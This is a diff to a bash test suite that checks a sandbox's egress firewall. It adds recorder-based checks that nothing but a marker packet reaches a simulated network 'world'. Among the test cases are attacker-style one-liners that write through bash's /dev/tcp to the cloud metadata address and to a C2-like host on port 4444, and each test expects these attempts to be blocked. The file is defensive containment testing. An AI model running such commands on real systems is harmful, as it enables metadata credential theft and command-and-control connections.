@@ -49,16 +49,30 @@ world_marker() {
 	fail "$1: the registry never recorded the marker fetch"
 }
 
-# nothing_arrived NAME: the capture NAME (stopped) saw only the marker (the registry and the
-# authority the DNS gate asked), and no service of the world recorded a contact from the gate.
+# window_start NAME: starts the capture NAME and notes where the world's recorder is (it sees
+# every link of the world, not only the gate's).
+window_start() {
+	bash "$WORLDSH" capture-start "$WORLD" "$1" || fail "capture-start" # returns once listening
+	bash "$WORLDSH" arrivals "$WORLD" | wc -l >"$T/$1.recorded" || fail "arrivals"
+}
+# arrived_since NAME: what the recorder saw arrive since window_start NAME.
+arrived_since() { bash "$WORLDSH" arrivals "$WORLD" | tail -n +$(($(cat "$T/$1.recorded") + 1)); }
+recorded_marker() { arrived_since "$1" | grep -qE ' 198\.51\.100\.7\.80$'; }
+
+# nothing_arrived NAME: the capture NAME (stopped) and the world's recorder saw only the marker
+# (the registry and the authority the DNS gate asked), and no service of the world recorded a
+# contact from the gate.
 nothing_arrived() {
 	bash "$WORLDSH" capture-dests "$WORLD" "$1" >"$T/$1.dests" || fail "capture-dests $1"
 	grep -qE ' 198\.51\.100\.7\.80$' "$T/$1.dests" || fail "$1: the capture missed the marker: $(cat "$T/$1.dests")"
 	grep -vE ' (198\.51\.100\.7\.80|198\.51\.100\.53\.53)$' "$T/$1.dests" >"$T/$1.other" &&
 		fail "$1: packets arrived in the world: $(cat "$T/$1.other")"
+	wait_for 5 recorded_marker "$1" || fail "$1: the world's recorder missed the marker"
+	arrived_since "$1" | grep -vE ' (198\.51\.100\.7\.80|198\.51\.100\.53\.53)$' >"$T/$1.rec-other" &&
+		fail "$1: the world's recorder saw packets arrive: $(head -n 5 "$T/$1.rec-other")"
 	[ -z "$(contacts metadata; contacts c2)" ] ||
 		fail "$1: the world's metadata or c2 recorded a contact: $(contacts metadata; contacts c2)"
-	ok "$1: nothing but the marker arrived in the world (capture and the services' own records)"
+	ok "$1: nothing but the marker arrived in the world (capture, recorder and the services' own records)"
 }
 
 # attack MODE NAME: runs egress.py MODE with packets counted in the world; leaves $T/NAME.jsonl
@@ -68,7 +82,7 @@ nothing_arrived() {
 attack() {
 	local mode=$1 name=$2 since
 	since=$(date +%s%N)
-	bash "$WORLDSH" capture-start "$WORLD" "$name" || fail "capture-start" # returns once listening
+	window_start "$name"
 	if [ "$mode" = deny ]; then
 		"$FB" exec eg1 --tool attack -- python3 /workspace/egress.py deny "$host4" "$gate4" \
 			>"$T/$name.jsonl" || fail "the attack script failed to run"
@@ -78,7 +92,7 @@ attack() {
 	fi
 	world_marker "$name"
 	bash "$WORLDSH" capture-stop "$WORLD" "$name" >/dev/null || fail "capture-stop"
-	sleep 1.5 # the monitor stores a destination's denied packets once a second
+	nflog_marker eg1 # every denied packet of the attack is in a stored net.denied by then
 	"$FB" timeline eg1 --json | python3 -c '
 import json, sys
 protos = {"tcp": 6, "udp": 17, "icmp": 1, "icmpv6": 58}
@@ -147,7 +161,7 @@ assert n['unattributed'] == 0 and n['unparsed'] == 0 and n['kernel_drops'] == 0,
 ok "every packet on NFLOG was attributed to the sandbox by its prefix"
 
 # The attacker's usual tools, escaped the same way: bash's /dev/tcp and curl.
-bash "$WORLDSH" capture-start "$WORLD" tools || fail "capture-start"
+window_start tools
 nsenter --net="/proc/$init/ns/net" timeout 5 bash -c 'echo x >/dev/tcp/169.254.169.254/80' 2>/dev/null \
 	&& fail "bash /dev/tcp reached the metadata service"
 nsenter --net="/proc/$init/ns/net" timeout 5 bash -c 'echo x >/dev/tcp/203.0.113.66/4444' 2>/dev/null \
